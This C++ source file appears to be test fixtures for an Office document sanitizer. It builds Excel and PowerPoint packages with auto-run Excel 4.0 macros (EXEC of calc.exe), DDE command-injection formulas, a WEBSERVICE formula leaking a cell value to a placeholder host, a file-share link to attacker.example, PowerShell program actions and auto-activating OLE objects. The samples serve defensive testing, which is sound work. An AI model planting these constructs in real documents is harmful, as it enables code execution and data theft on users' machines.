      .relate("xl/workbook.xml", "rIdVba", type(kOffice2006, "vbaProject"), "vbaProject.bin");
  return package;
}

Package excel_xlm() {
  Package package = excel_workbook({"<sheetData>" + cell("A1", "1") + "</sheetData>",
                                    "<sheetData>" + cell("A1", "2") + "</sheetData>"},
                                   true);
  const std::string workbook = xml(
      "<workbook" + std::string(kSheetNamespaces) +
      R"(><bookViews><workbookView activeTab="2" firstSheet="1"/></bookViews><sheets>)"
      R"(<sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="3" r:id="rIdMacro"/>)"
      R"(<sheet name="Sheet2" sheetId="2" r:id="rId2"/></sheets><definedNames>)"
      R"(<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>)"
      R"(<definedName name="Payload" function="1" xlm="1">Macro1!$A$2</definedName>)"
      R"(<definedName name="FromMacro">Macro1!$B$1</definedName>)"
      R"(<definedName name="_xlnm.Print_Area" localSheetId="1">Macro1!$A$1:$B$2</definedName>)"
      R"(<definedName name="_xlnm.Print_Area" localSheetId="2">Sheet2!$A$1:$C$3</definedName>)"
      R"(<definedName name="Total">Sheet1!$A$1</definedName></definedNames></workbook>)");
  package.replace("xl/workbook.xml", workbook)
      .part(
          "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml",
          xml(R"(<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main")"
              R"( xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">)"
              R"(<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>)"
              R"(</sheetData></xm:macrosheet>)"))
      .relate("xl/workbook.xml", "rIdMacro", type(kOffice2006, "xlMacrosheet"),
              "macrosheets/sheet1.xml");
  return package;
}

Package excel_dialog_sheet() {
  Package package = excel_workbook({"<sheetData>" + cell("A1", "1") + "</sheetData>"});
  package
      .replace("xl/workbook.xml",
               xml("<workbook" + std::string(kSheetNamespaces) +
                   R"(><sheets><sheet name="Dialog1" sheetId="2" r:id="rIdDialog"/>)"
                   R"(<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>)"))
      .part(
          "xl/dialogsheets/sheet1.xml", type(kExcelCt, "dialogsheet+xml"),
          xml(R"(<dialogsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>)"))
      .relate("xl/workbook.xml", "rIdDialog", "dialogsheet", "dialogsheets/sheet1.xml");
  return package;
}

Package excel_dde() {
  Package package = excel_workbook(
      {"<sheetData><row r=\"1\">" + formula_cell("A1", "cmd|' /c calc.exe'!A0", "0") +
       formula_cell("B1", "SUM(1,2)", "3") +
       formula_cell("C1", "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
                    "0") +
       "</row><row r=\"2\">" + formula_cell("A2", "RTD(\"server.progid\",,\"topic\")", "5") +
       formula_cell("B2", "_xlfn.WEBSERVICE(\"http://example.invalid/?\"&amp;A1)", "x") +
       formula_cell("C2", "\"a|b\"&amp;'Sheet 1'!A1", "a|b1") + "</row><row r=\"3\">" +
       formula_cell("A3", "cmd|'/c notepad'!A1", "0", R"( t="shared" ref="A3:A5" si="0")") +
       "</row><row r=\"4\"><c r=\"A4\"><f t=\"shared\" si=\"0\"/><v>0</v></c></row>"
       "<row r=\"5\"><c r=\"A5\"><f t=\"shared\" si=\"0\"/><v>0</v></c></row>"
       "<row r=\"6\">" +
       formula_cell("A6", "[1]!'_xlbgnm.A1'", "0") + "</row><row r=\"7\">" +
       formula_cell("A7", "HYPERLINK(\"file://attacker.example/share/a.xlsx\",\"open\")", "open") +
       formula_cell("B7", "HYPERLINK(\"https://www.example.jp/\",\"web\")", "web") +
       "</row></sheetData>"
       R"(<dataValidations count="2"><dataValidation type="list" sqref="D1"><formula1>cmd|'/c calc'!A0</formula1>)"
       R"(</dataValidation><dataValidation type="whole" sqref="D2"><formula1>1</formula1></dataValidation>)"
       R"(</dataValidations>)"});
  package
      .replace(
          "xl/workbook.xml",
          xml("<workbook" + std::string(kSheetNamespaces) +
              R"(><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>)"
              R"(<externalReferences><externalReference r:id="rIdDde"/></externalReferences></workbook>)"))
      .part(
          "xl/externalLinks/externalLink1.xml", type(kExcelCt, "externalLink+xml"),
          xml(R"(<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">)"
              R"(<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/>)"
              R"(</ddeItems></ddeLink></externalLink>)"))
      .relate("xl/workbook.xml", "rIdDde", "externalLink", "externalLinks/externalLink1.xml")
      .part(
          "xl/calcChain.xml", type(kExcelCt, "calcChain+xml"),
          xml(R"(<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">)"
              R"(<c r="A1" i="1"/><c r="B1"/><c r="C1"/><c r="A2"/><c r="B2"/><c r="C2"/><c r="A3"/>)"
              R"(<c r="A4"/><c r="A5"/><c r="A6"/></calcChain>)"))
      .relate("xl/workbook.xml", "rIdCalc", "calcChain", "calcChain.xml");
  return package;
}

Package excel_external_link() {
  Package package =
      excel_workbook({"<sheetData><row r=\"1\">" + formula_cell("A1", "[1]Sheet1!$A$1", "42") +
                      formula_cell("B1", "SUM('[1]Other Sheet'!$A$1:$A$3)", "6") + cell("C1", "7") +
                      "</row></sheetData>"});
  package
      .replace(
          "xl/workbook.xml",
          xml("<workbook" + std::string(kSheetNamespaces) +
              R"(><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>)"
              R"(<externalReferences><externalReference r:id="rIdLink"/></externalReferences>)"
              R"(<definedNames><definedName name="Remote">[1]Sheet1!$A$1</definedName></definedNames></workbook>)"))
      .part(
          "xl/externalLinks/externalLink1.xml", type(kExcelCt, "externalLink+xml"),
          xml(R"(<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main")"
              R"( xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">)"
              R"(<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>)"
              R"(</externalLink>)"))
      .relate("xl/workbook.xml", "rIdLink", "externalLink", "externalLinks/externalLink1.xml")
      .relate("xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath",
              "file:///\\\\server\\share\\book.xlsx", true);
  return package;
}

Package excel_connections() {
  Package package = excel_workbook(
      {"<sheetData>" + cell("A1", "1") +
       "</sheetData><tableParts count=\"1\"><tablePart r:id=\"rIdTable\"/></tableParts>"});
  package
      .part(
          "xl/connections.xml", type(kExcelCt, "connections+xml"),
          xml(R"(<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">)"
              R"(<connection id="1" name="web" type="4" refreshedVersion="6" background="1" saveData="1">)"
              R"(<webPr sourceData="1" parsePre="1" url="http://example.invalid/data"/></connection></connections>)"))
      .relate("xl/workbook.xml", "rIdConnections", "connections", "connections.xml")
      .part(
          "xl/tables/table1.xml", type(kExcelCt, "table+xml"),
          xml(R"(<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="Query")"
              R"( displayName="Query" ref="A1:A2" tableType="queryTable" totalsRowShown="0" connectionId="1">)"
              R"(<autoFilter ref="A1:A2"/><tableColumns count="1"><tableColumn id="1" uniqueName="1" name="Value")"
              R"( queryTableFieldId="1"/></tableColumns></table>)"))
      .relate("xl/worksheets/sheet1.xml", "rIdTable", "table", "../tables/table1.xml")
      .part(
          "xl/queryTables/queryTable1.xml", type(kExcelCt, "queryTable+xml"),
          xml(R"(<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="web")"
              R"( connectionId="1" autoFormatId="16" applyNumberFormats="0"><queryTableRefresh nextId="2">)"
              R"(<queryTableFields count="1"><queryTableField id="1" name="Value" tableColumnId="1"/>)"
              R"(</queryTableFields></queryTableRefresh></queryTable>)"))
      .relate("xl/tables/table1.xml", "rId1", "queryTable", "../queryTables/queryTable1.xml")
      .replace(
          "xl/workbook.xml",
          xml("<workbook" + std::string(kSheetNamespaces) +
              R"(><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>)"
              R"(<pivotCaches><pivotCache cacheId="1" r:id="rIdPivot"/></pivotCaches></workbook>)"))
      .part(
          "xl/pivotCache/pivotCacheDefinition1.xml", type(kExcelCt, "pivotCacheDefinition+xml"),
          xml(R"(<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main")"
              R"( refreshOnLoad="1" recordCount="0"><cacheSource type="external" connectionId="1"/>)"
              R"(<cacheFields count="1"><cacheField name="Value" numFmtId="0"><sharedItems/></cacheField>)"
              R"(</cacheFields></pivotCacheDefinition>)"))
      .relate("xl/workbook.xml", "rIdPivot", "pivotCacheDefinition",
              "pivotCache/pivotCacheDefinition1.xml");
  return package;
}

Package excel_power_query() {
  Package package = excel_workbook({"<sheetData>" + cell("A1", "1") + "</sheetData>"});
  package
      .part(
          "customXml/item1.xml", "application/xml",
          xml(R"(<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQAAgAIAA==</DataMashup>)"))
      .relate("xl/workbook.xml", "rIdMashup", "customXml", "../customXml/item1.xml")
      .part("customXml/itemProps1.xml",
            "application/vnd.openxmlformats-officedocument.customXmlProperties+xml",
            xml(R"(<ds:datastoreItem ds:itemID="{00000000-0000-0000-0000-000000000001}")"
                R"( xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>)"))
      .relate("customXml/item1.xml", "rId1", "customXmlProps", "itemProps1.xml");
  return package;
}

Package excel_printer_settings() {
  Package package = excel_workbook(
      {"<sheetData>" + cell("A1", "1") +
       R"(</sheetData><pageSetup paperSize="9" orientation="portrait" r:id="rIdPrinter"/>)"});
  package
      .part("xl/printerSettings/printerSettings1.bin",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings",
            std::string(220, '\x01'))
      .relate("xl/worksheets/sheet1.xml", "rIdPrinter", "printerSettings",
              "../printerSettings/printerSettings1.bin");
  return package;
}

Package excel_controls() {
  const std::string content =
      "<sheetData>" + cell("A1", "1") + "</sheetData>" +
      R"(<drawing r:id="rIdDrawing"/><legacyDrawing r:id="rIdVml"/><oleObjects><mc:AlternateContent>)"
      R"(<mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1025" r:id="rIdOle">)"
      R"(<objectPr defaultSize="0" r:id="rIdPreview"><anchor moveWithCells="1"><from><xdr:col)"
      R"( xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">1</xdr:col>)"
      R"(</from></anchor></objectPr></oleObject></mc:Choice><mc:Fallback>)"
      R"(<oleObject progId="Package" shapeId="1025" r:id="rIdOle"/></mc:Fallback>)"
      R"(</mc:AlternateContent></oleObjects><controls><control shapeId="1026" r:id="rIdControl")"
      R"( name="CommandButton1"/></controls>)";
  Package package = excel_workbook({content});
  package.default_type("png", "image/png")
      .default_type("bin", ct::ole)
      .file("xl/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 package")
      .relate("xl/worksheets/sheet1.xml", "rIdOle", "oleObject", "../embeddings/oleObject1.bin")
      .file("xl/media/image1.png", tiny_png(7, 7, 7))
      .relate("xl/worksheets/sheet1.xml", "rIdPreview", "image", "../media/image1.png")
      .part(
          "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
          xml(R"(<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX")"
              R"( ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag"/>)"))
      .relate("xl/worksheets/sheet1.xml", "rIdControl", "control", "../activeX/activeX1.xml")
      .part(
          "xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing",
          R"(<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office")"
          R"( xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1027" type="#_x0000_t201">)"
          R"(<x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0, 3, 0, 3, 0</x:Anchor>)"
          R"(<x:FmlaMacro>[0]!AutoRun</x:FmlaMacro><x:TextHAlign>Center</x:TextHAlign></x:ClientData>)"
          R"(</v:shape></xml>)")
      .relate("xl/worksheets/sheet1.xml", "rIdVml", "vmlDrawing", "../drawings/vmlDrawing1.vml")
      .part(
          "xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml",
          xml(R"(<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing")"
              R"( xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:twoCellAnchor>)"
              R"(<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff>)"
              R"(</xdr:from><xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row>)"
              R"(<xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="[0]!Payload" textlink=""><xdr:nvSpPr>)"
              R"(<xdr:cNvPr id="2" name="Button"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect">)"
              R"(<a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>実行</a:t>)"
              R"(</a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>)"))
      .relate("xl/worksheets/sheet1.xml", "rIdDrawing", "drawing", "../drawings/drawing1.xml");
  return package;
}

// --- PowerPoint -----------------------------------------------------------------------------

Package powerpoint_vba() {
  Package package = powerpoint_presentation({text_shape(2, "マクロ Macro")}, true);
  package.part("ppt/vbaProject.bin", ct::vba, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 fake VBA")
      .relate("ppt/presentation.xml", "rIdVba", type(kOffice2006, "vbaProject"), "vbaProject.bin");
  return package;
}

Package powerpoint_actions() {
  const auto action_shape = [](int id, std::string_view hyperlink, std::string_view text) {
    const std::string n = std::to_string(id);
    return R"(<p:sp><p:nvSpPr><p:cNvPr id=")" + n + R"(" name="Action )" + n + R"(">)" +
           std::string(hyperlink) +
           R"(</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/>)"
           R"(<a:p><a:r><a:rPr lang="ja-JP"/><a:t>)" +
           std::string(text) + "</a:t></a:r></a:p></p:txBody></p:sp>";
  };
  std::string shapes = text_shape(2, "動作設定 Action settings");
  shapes += action_shape(3, R"(<a:hlinkClick r:id="rIdProgram" action="ppaction://program"/>)",
                         "クリック Click");
  shapes += action_shape(4, R"(<a:hlinkHover r:id="" action="ppaction://macro?name=Payload"/>)",
                         "マウスオーバー Hover");
  shapes +=
      action_shape(5, R"(<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>)",
                   "次へ Next");
  shapes +=
      R"(<p:sp><p:nvSpPr><p:cNvPr id="6" name="Text"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>)"
      R"(<p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP">)"
      R"(<a:hlinkMouseOver r:id="rIdProgram" action="ppaction://program"/></a:rPr><a:t>文字</a:t>)"
      R"(</a:r></a:p></p:txBody></p:sp>)";
  Package package = powerpoint_presentation({shapes});
  package.relate("ppt/slides/slide1.xml", "rIdProgram", "hyperlink",
                 "powershell.exe%20-NoExit%20-Command%20calc", true);
  return package;
}

Package powerpoint_ole() {
  const std::string frame =
      R"(<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr>)"
      R"(<a:graphicFrameLocks noChangeAspect="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr>)"
      R"(<p:xfrm><a:off x="3131840" y="3861048"/><a:ext cx="2956040" cy="1236712"/></p:xfrm><a:graphic>)"
      R"(<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><mc:AlternateContent>)"
      R"(<mc:Choice Requires="v"><p:oleObj spid="_x0000_s1026" name="Packager" r:id="rIdOle" imgW="1089000")"
      R"( imgH="455760" progId="Package"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj)"
      R"( name="Packager" r:id="rIdOle" imgW="1089000" imgH="455760" progId="Package"><p:embed/><p:pic>)"
      R"(<p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>)"
      R"(<a:blip r:embed="rIdPreview"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr/>)"
      R"(</p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>)";
  Package package = powerpoint_presentation({text_shape(2, "オブジェクト Object") + frame});
  const std::string timing =
      R"(<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot">)"
      R"(<p:childTnLst><p:seq concurrent="1" nextAc="seek"><p:cTn id="2" dur="indefinite" nodeType="mainSeq">)"
      R"(<p:childTnLst><p:par><p:cTn id="3" fill="hold"><p:stCondLst><p:cond delay="0"/></p:stCondLst>)"
      R"(<p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="4" dur="1" fill="hold"/><p:tgtEl>)"
      R"(<p:spTgt spid="4"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:childTnLst>)"
      R"(</p:cTn></p:seq></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>)";
  std::string slide = xml("<p:sld" + std::string(kSlideNamespaces) +
                          R"(><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>)"
                          R"(<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>)" +
                          text_shape(2, "オブジェクト Object") + frame +
                          "</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr>" +
                          timing + "</p:sld>");
  package.replace("ppt/slides/slide1.xml", slide)
      .default_type("png", "image/png")
      .default_type("bin", ct::ole)
      .file("ppt/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 package")
      .relate("ppt/slides/slide1.xml", "rIdOle", "oleObject", "../embeddings/oleObject1.bin")
      .file("ppt/media/image1.png", tiny_png(5, 5, 5))
      .relate("ppt/slides/slide1.xml", "rIdPreview", "image", "../media/image1.png");
  return package;
}

// --- large documents for the benchmark -----------------------------------------------------

namespace {

constexpr std::string_view kSentences[] = {
    "令和6年度の予算案について、各課の要望を取りまとめました。",
    "The council reviewed the water and road maintenance budget for the coming year.",
    "住民票の写しの交付申請は、窓口またはオンラインで受け付けています。",
    "Applications received after the deadline will be processed in the next quarter.",
    "①申請書 ②本人確認書類 ③手数料（３００円）をご用意ください。",
    "Library opening hours change during the summer holidays; see the notice board.",
    "会議資料は前日までに担当課長へ提出してください。",
    "The school lunch programme covers all public elementary schools in the ward.",
};

std::string sentence(std::size_t i) {
  return std::string(kSentences[i % std::size(kSentences)]);
}

}  // namespace

Package large_word_document(int pages, int pages_per_picture, std::size_t picture_bytes) {
  std::string body;
  int picture = 0;
  for (int page = 0; page < pages; ++page) {
    for (int line = 0; line < 24; ++line) {
      body += paragraph(sentence(static_cast<std::size_t>(page * 24 + line)) + " " +
                        sentence(static_cast<std::size_t>(page + line * 3)));
    }
    if (page % 10 == 5) {
      body += R"(<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid>)"
              R"(<w:gridCol w:w="3000"/><w:gridCol w:w="3000"/></w:tblGrid>)";
      for (int row = 0; row < 8; ++row) {
        body += "<w:tr><w:tc>" + paragraph("項目 " + std::to_string(row)) + "</w:tc><w:tc>" +
                paragraph(std::to_string(1000 * row + page) + " 円") + "</w:tc></w:tr>";
      }
      body += "</w:tbl>";
    }
    if (pages_per_picture > 0 && page % pages_per_picture == 0) {
      ++picture;
      body += "<w:p>" + picture_run(picture, "rIdPicture" + std::to_string(picture)) + "</w:p>";
    }
    body += R"(<w:p><w:r><w:br w:type="page"/></w:r></w:p>)";
  }
  Package package = word_document(body);
  package.default_type("png", "image/png");
  for (int i = 1; i <= picture; ++i) {
    const std::string n = std::to_string(i);
    package
        .file("word/media/image" + n + ".png",
              noise_png(picture_bytes, static_cast<std::uint64_t>(i)))
        .relate("word/document.xml", "rIdPicture" + n, "image", "media/image" + n + ".png");
  }
  return package;
}

Package large_workbook(std::size_t sheet_bytes) {
  std::string strings =
      R"(<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">)";
  constexpr int kStrings = 1000;
  for (int i = 0; i < kStrings; ++i) {
    strings += "<si><t>" + sentence(static_cast<std::size_t>(i)).substr(0, 30) + " " +
               std::to_string(i) + "</t></si>";
  }
  strings += "</sst>";
  std::string data = "<sheetData>";
  data.reserve(sheet_bytes + 1024);
  std::uint64_t state = 7;
  for (std::size_t row = 1; data.size() < sheet_bytes; ++row) {
    state = state * 6364136223846793005ull + 1442695040888963407ull;
    const std::string r = std::to_string(row);
    const std::uint64_t amount = (state >> 33) % 1000000;
    const std::string amount_text = std::to_string(amount);
    data += R"(<row r=")" + r + R"("><c r="A)" + r + R"("><v>)" + r + R"(</v></c><c r="B)" + r +
            R"(" t="s"><v>)" + std::to_string((state >> 20) % kStrings) + R"(</v></c><c r="C)" + r +
            R"("><v>)" + amount_text + R"(</v></c><c r="D)" + r + R"("><f>C)" + r +
            R"(*1.1</f><v>)" + std::to_string(amount + amount / 10) + R"(</v></c><c r="E)" + r +
            R"("><v>)" + std::to_string(45000 + row % 1000) + "</v></c></row>";
  }
  data += "</sheetData>";
  Package package = excel_workbook({data});
  package.part("xl/sharedStrings.xml", type(kExcelCt, "sharedStrings+xml"), xml(strings))
      .relate("xl/workbook.xml", "rIdStrings", "sharedStrings", "sharedStrings.xml");
  return package;
}

Package large_presentation(int slides, std::size_t picture_bytes) {
  std::vector<std::string> shapes;
  for (int i = 0; i < slides; ++i) {
    shapes.push_back(
        text_shape(2, sentence(static_cast<std::size_t>(i))) +
        R"(<p:pic><p:nvPicPr><p:cNvPr id="3" name="Picture"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>)"
        R"(<p:blipFill><a:blip r:embed="rIdPicture"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>)"
        R"(<p:spPr><a:xfrm><a:off x="457200" y="2000000"/><a:ext cx="4000000" cy="3000000"/></a:xfrm>)"
        R"(<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>)");
  }
  Package package = powerpoint_presentation(shapes);
  package.default_type("png", "image/png");
  for (int i = 1; i <= slides; ++i) {
    const std::string n = std::to_string(i);
    package
        .file("ppt/media/image" + n + ".png",
              noise_png(picture_bytes, static_cast<std::uint64_t>(i)))
        .relate("ppt/slides/slide" + n + ".xml", "rIdPicture", "image",
                "../media/image" + n + ".png");
  }
  return package;
}

}  // namespace sanitize::formats::ooxml::testing
